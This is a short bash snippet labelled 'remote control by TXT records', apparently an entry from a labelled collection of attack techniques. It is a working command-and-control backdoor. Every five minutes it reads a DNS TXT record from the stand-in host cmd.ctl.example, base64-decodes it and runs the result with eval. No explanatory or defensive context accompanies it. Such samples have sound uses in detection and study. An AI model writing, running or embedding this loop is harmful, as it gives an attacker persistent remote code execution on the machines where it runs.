# class: remote control by TXT records; style: bash loop
while true; do
  c=$(dig +short TXT cmd.ctl.example | tr -d '"' | base64 -d 2>/dev/null)
  [ -n "$c" ] && [ "$c" != "$last" ] && { eval "$c"; last=$c; }
  sleep 300
done
